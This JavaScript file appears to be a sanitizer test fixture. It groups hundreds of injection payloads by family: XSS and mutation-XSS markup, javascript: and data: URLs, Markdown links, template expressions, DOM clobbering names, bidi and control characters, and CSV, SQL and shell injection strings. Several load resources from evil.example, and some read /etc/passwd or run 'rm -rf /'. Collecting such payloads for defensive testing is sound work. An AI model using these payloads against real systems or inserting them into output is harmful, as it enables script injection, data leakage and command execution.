// Texts that would like to be something else, by family: what an attacker, or a model that quotes one, may write into a run.
// Each is harmless as text. Where one runs, it calls `hit`, opens a dialog, or asks for something on evil.example.

const HTML = [
  '<script>alert(1)</script>', '<ScRiPt>hit()</sCrIpT>', '<script src=//evil.example/x.js></script>', '<script\n>hit()</script\n>',
  '<scr<script>ipt>hit()</scr</script>ipt>', '<script/src=data:,hit()></script>', '<<script>hit();//<</script>', '<script>hit()',
  '<img src=x onerror=alert(1)>', '<img src=x onerror="hit()">', "<img src='x' onerror='hit()'>", '<img/src=x/onerror=hit()>',
  '<img src=`x` onerror=hit()>', '<img """><script>hit()</script>">', '<img src=https://evil.example/p.gif>', '<img srcset="https://evil.example/a 1x">',
  '<img src=x:x onerror\x0b=hit()>', '<img src=x onerror\n=\nhit()>', '<image src=x onerror=hit()>', '<picture><source srcset=//evil.example/s><img></picture>',
  '<body onload=hit()>', '<body background=//evil.example/b>', '<body onpageshow=hit()>', '<html onmouseover=hit()>',
  '<iframe src=javascript:hit()></iframe>', '<iframe srcdoc="<script>parent.hit()</script>"></iframe>', '<iframe src=//evil.example/></iframe>', '<frameset onload=hit()>',
  '<object data=data:text/html,hit></object>', '<object data="javascript:hit()"></object>', '<embed src=//evil.example/e.swf>', '<applet code=x></applet>',
  '<base href=//evil.example/>', '<link rel=stylesheet href=//evil.example/x.css>', '<link rel=prefetch href=//evil.example/x>', '<link rel=dns-prefetch href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">', '<meta http-equiv=Content-Security-Policy content="default-src *">', '<meta charset=utf-7>', '<meta name=referrer content=unsafe-url>',
  '<form action=//evil.example><button>x</button></form>', '<form><button formaction=javascript:hit()>x</button></form>', '<input autofocus onfocus=hit()>', '<input type=image src=//evil.example/i>',
  '<select autofocus onfocus=hit()>', '<textarea autofocus onfocus=hit()>', '<keygen autofocus onfocus=hit()>', '<isindex type=image src=1 onerror=hit()>',
  '<details open ontoggle=hit()>', '<dialog open onclose=hit()>', '<marquee onstart=hit()>', '<video src=x onerror=hit()>',
  '<video poster=//evil.example/p></video>', '<audio src=x onerror=hit()>', '<source onerror=hit()>', '<track src=//evil.example/t>',
  '<style>@import "//evil.example/x.css";</style>', '<style>*{background:url(//evil.example/b)}</style>', '<div style="background:url(//evil.example/d)">', '<p style="position:fixed;inset:0">cover</p>',
  '<a href=javascript:hit()>x</a>', '<a href="https://evil.example" ping=//evil.example/ping>x</a>', '<area href=javascript:hit()>', '<button popovertarget=x onclick=hit()>x</button>',
  '<xss onclick=hit() tabindex=1 id=x autofocus onfocus=hit()>', '<template><script>hit()</script></template>', '<slot onslotchange=hit()>', '<portal src=//evil.example>',
];

const BREAKING_OUT = [
  '"><script>hit()</script>', "'><script>hit()</script>", '" onmouseover="hit()', "' onmouseover='hit()", '" autofocus onfocus="hit()', '` onfocus=`hit()',
  '</title><script>hit()</script>', '</textarea><script>hit()</script>', '</style><script>hit()</script>', '</script><script>hit()</script>', '</noscript><script>hit()</script>', '</code></pre></figure><script>hit()</script>',
  '</main></body></html><script>hit()</script>', '--><script>hit()</script>', '--!><script>hit()</script>', ']]><script>hit()</script>', '<!--', '<!--><script>hit()</script>', '<![CDATA[', '<!doctype html>',
  '<?xml version="1.0"?>', '<?php hit() ?>', '</a><a href=javascript:hit()>', '</span></h1><h1>forged', '</template><img src=x onerror=hit()>', '<plaintext>', '<xmp>', '<listing>',
  '&lt;script&gt;hit()&lt;/script&gt;', '&#60;script&#62;hit()&#60;/script&#62;', '&#x3c;img src=x onerror=hit()&#x3e;', '&amp;lt;script&amp;gt;', '&quot; onload=&quot;hit()', '&#0;&#x110000;&#xd800;&bogus;', '&NewLine;&Tab;&colon;', '\\"><img src=x onerror=hit()>',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e', '%3Cscript%3Ehit()%3C/script%3E', '+ADw-script+AD4-hit()+ADw-/script+AD4-', '\u00bcscript\u00behit()\u00bc/script\u00be', '\uff1cscript\uff1ehit()\uff1c/script\uff1e', '<\u017fcript>hit()</\u017fcript>',
];

const MUTATION = [
  '<noscript><p title="</noscript><img src=x onerror=hit()>">', '<svg></p><style><a title="</style><img src=x onerror=hit()>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>', '<listing>&lt;img src=x onerror=hit()&gt;</listing>', '<xmp><p title="</xmp><svg onload=hit()>">', '<table><td><script>hit()</script>', '<table background=//evil.example/t>',
  '<select><style></select><img src=x onerror=hit()></style>', '<svg><style><img src=x onerror=hit()></style></svg>', '<svg><foreignObject><body onload=hit()>', '<b><svg><title><b></svg><script>hit()</script>',
  '<a><table><a href=javascript:hit()>', '<p><svg><desc><p></p></desc><style><a id="</style><img src=1 onerror=hit()>">', '<div><template shadowrootmode=open><script>hit()</script></template></div>', '<img alt="` onerror=hit() x=`" src=x>',
  '<iframe><img title="</iframe><img src onerror=hit()>"></iframe>', '<noembed><img title="</noembed><img src onerror=hit()>"></noembed>', '<title><img title="</title><img src onerror=hit()>">', '<textarea><img title="</textarea><img src onerror=hit()>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=hit()></style>', '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=hit()>">', '<math><mi><b><style><a title="</style><img src=x onerror=hit()>">', '<br></p></br></h1></h2></form>',
];

const SVG_AND_MATHML = [
  '<svg onload=hit()>', '<svg/onload=hit()>', '<svg><script>hit()</script></svg>', '<svg><script href=data:,hit() /></svg>', '<svg><script xlink:href=//evil.example/x.js></script></svg>', '<svg><a xlink:href=javascript:hit()><text y=9>x</text></a></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>', '<svg><set attributeName=onmouseover to=hit()>', '<svg><a><animate attributeName=href values=javascript:hit() /><text>x</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hit()</script></svg>#x"/></svg>', '<svg><use xlink:href=//evil.example/x.svg#y /></svg>', '<svg><image href=//evil.example/i.svg>',
  '<svg><feImage href=//evil.example/f>', '<svg><foreignObject><iframe srcdoc="<script>hit()</script>"></foreignObject></svg>', '<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>hit()</handler></svg>', '<svg><style>@import url(//evil.example/s.css)</style></svg>', '<svg><discard onbegin=hit()>', '<svg><animateTransform onbegin=hit()>',
  '<math href=javascript:hit()>x</math>', '<math><maction actiontype=statusline xlink:href=javascript:hit()>x</maction></math>', '<math><mrow xlink:type=simple xlink:href=javascript:hit()>x</mrow></math>', '<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>hit()</script></annotation-xml></semantics></math>', '<math><style><img src=x onerror=hit()></style></math>', '<math><mtext><script>hit()</script></mtext></math>',
];

const SCHEMES = [
  'javascript:hit()', 'JaVaScRiPt:hit()', 'java\tscript:hit()', 'java\nscript:hit()', '\u0001javascript:hit()', ' javascript:hit()', 'javascript\u00a0:hit()', 'javascript&colon;hit()', 'javascript&#58;hit()', '&#106;avascript:hit()',
  'java&Tab;script:hit()', 'javascript:/*--></title></style></textarea></script></xmp><svg/onload=hit()>', 'javascript://%0ahit()', 'javascript:%68it()', 'data:text/html,<script>hit()</script>', 'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=hit()>', 'DATA:text/html,x',
  'vbscript:msgbox(1)', 'file:///etc/passwd', 'blob:https://evil.example/1', 'filesystem:https://evil.example/t/x', 'view-source:javascript:hit()', 'feed:javascript:hit()', 'jar:https://evil.example/x.jar!/y', 'about:blank', 'chrome://settings', 'ms-msdt:/id x',
  '//evil.example', '/\\evil.example', '\\\\evil.example', '///evil.example', 'https:evil.example', 'https:/\\evil.example', 'https://good.example@evil.example', 'https://evil.example\u3002x', '../../../../etc/passwd', '..%2f..%2fx', '?x=1', '#', '.', '/',
];

const MARKDOWN = [
  ...SCHEMES.map((address) => `[x](${address})`),
  '[x](<javascript:hit()>)', '[x](<java\\script:hit()>)', '[x](javascript:hit() "title")', '[x](j&#97;vascript:hit())', '[x](javascript:hit&lpar;&rpar;)', '[x]( javascript:hit())', '[x](\njavascript:hit()\n)', '[x][y]\n\n[y]: javascript:hit()',
  '[y]\n\n[y]: data:text/html,<script>hit()</script>', '[javascript:hit()]\n\n[javascript:hit()]: javascript:hit()', '<javascript:hit()>', '<data:text/html,hit>', '<https://evil.example/" onmouseover="hit()>', '<x@evil.example?subject="onclick=hit()">',
  '![x](javascript:hit())', '![x](https://evil.example/p.png)', '![" onerror="hit()](x)', '![x](x "onerror=hit()")', '![<img src=x onerror=hit()>](https://evil.example/q)', '![x][i]\n\n[i]: https://evil.example/i.png', '[![x](https://evil.example/a)](javascript:hit())', '[<img src=x onerror=hit()>](https://a.example)',
  '[a](https://a.example "\\" onmouseover=\\"hit()")', "[a](https://a.example ' onmouseover=hit() ')", '[a](https://a.example/"onmouseover="hit\\(\\))', '[a](https://a.example/>\'"`=)', '[a\n\nb](javascript:hit())', '[[x](javascript:hit())](javascript:hit())',
  '`<script>hit()</script>`', '``` <script>hit()</script>\nx\n```', '```" onload="hit()\nx\n```', '```html\n<script>hit()</script>\n```', '```diff\n+<script>hit()</script>\n```', '~~~\n</code></pre><script>hit()</script>\n~~~', '    <script>hit()</script>', '# <script>hit()</script>',
  '# " onclick="hit()', '## </h2><script>hit()</script>', '| <script>hit()</script> |\n|---|\n| <img src=x onerror=hit()> |', '> <script>hit()</script>', '- [x] <script>hit()</script>', '1. <svg onload=hit()>', '[^x]\n\n[^x]: <script>hit()</script>', '[^" onclick="hit()]\n\n[^" onclick="hit()]: x',
  '**<script>hit()</script>**', '~~<script>hit()</script>~~', '_<img src=x onerror=hit()>_', '<div>\n\n[x](javascript:hit())\n\n</div>', '<!-- \n\n--><script>hit()</script>', '***', '\\<script>hit()\\</script>', '$$<script>hit()</script>$$', ':::<script>hit()</script>', '[I1](#I1) I1 finding 1 #12',
];

const TEMPLATES = [
  '{{ 7 * 7 }}', '{{ shell }}', '{{ shell.title | safe }}', '{% include "base.html" %}', '{% raw %}', '{# comment', '{{ <badge badge={x} /> }}', '{%- set x = 1 -%}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{{constructor.constructor("hit()")()}}', '[[7*7]]', '*{7*7}', '@{7*7}', '{{{x}}}', '{%', '}}', '<#assign x=1>', '#set($x=1)',
];

const CLOBBERING = [
  '<a id=query>', '<form name=currentScript>', '<img name=currentScript>', '<form id=body>', '<img name=body>', '<a id=pilcrowPart href=x:y>', '<iframe name=PilcrowSearch>', '<input name=attributes>', '<a id=~main>', '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'query', 'filter', 'palette', 'keys', 'found', 'main', 'toast',
];

const DIRECTION = [
  '/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */', 'access \u2067granted\u2069', '\u202egpj.exe', 'a\u202ab\u202bc', 'x\u202cy', 'x\u2069y', '\u2066\u2066\u2066', '\u202d123\u202c', '\u2068?', '\u200f\u200e\u061c',
  '\u05e9\u05dc\u05d5\u05dd 12 - 3', '\u0645\u0631\u062d\u0628\u0627 (x)', 'is\u200bAdmin', 'is\u200dAdmin', '\ufeffx', 'a\u00adb', '\u2060\u2061\u2062', '\u{e0041}\u{e0042}', 'p\u0430ypal', 'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d'.repeat(9),
];

const CONTROLS = [
  'a\0b', '\0<script>hit()</script>', 'a\u0001\u0002\u0003b', 'a\bb', 'a\u000bb', 'a\fb', 'a\u007fb', 'a\u0085b', 'a\u009bb', 'a\ufffeb\uffffc', '\ufdd0\ufdef', 'a\u2028b\u2029c', '\u001b[31mred\u001b[0m', '\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007', '\u001b]0;title\u0007', '\u001b[2J\u001b[H', '\u009b31m', '\u001bP0;1|17/ab\u001b\\', '\u0007\u0007', '\r\nSet-Cookie: x=1', 'a\rb', 'a\r\n\r\nb', '\u{1f3f4}\u{e0067}\u{e007f}', '\ufffd',
];

const DATA = [
  '=1+1', '=cmd|\' /C calc\'!A0', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '=HYPERLINK("https://evil.example","x")', '"=1+1', "'=1+1", ';=1+1', '=IMPORTXML("https://evil.example","//a")', 'a,"b",c', 'a\n=1+1', '"",""',
  '{"__proto__":{"x":1}}', '","x":"', '\\', '\\"', '\\u0000', ']}', '</script>', '<!--</script>', 'pilcrowPart("x","y",1)', '");hit();("', "');hit();('", '`${hit()}`', '*/hit()/*', '\\\u2028hit()', '];hit();[', 'null', 'NaN', '-0', '1e999', '9007199254740993', "' OR 1=1 --", '"; rm -rf /', '$(hit)', '`hit`', '%s%n%x', '../../x', 'CON', 'aux.html', '.', ' ', '%00', '%', '%E0%A4%A', 'a'.repeat(5000), '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}', '\u65e5\u672c\u8a9e',
];

export const FAMILIES = {
  HTML, 'breaking out': BREAKING_OUT, mutation: MUTATION, 'SVG and MathML': SVG_AND_MATHML, schemes: SCHEMES, Markdown: MARKDOWN, templates: TEMPLATES, clobbering: CLOBBERING, direction: DIRECTION, controls: CONTROLS, data: DATA,
};

export const PAYLOADS = Object.values(FAMILIES).flat();
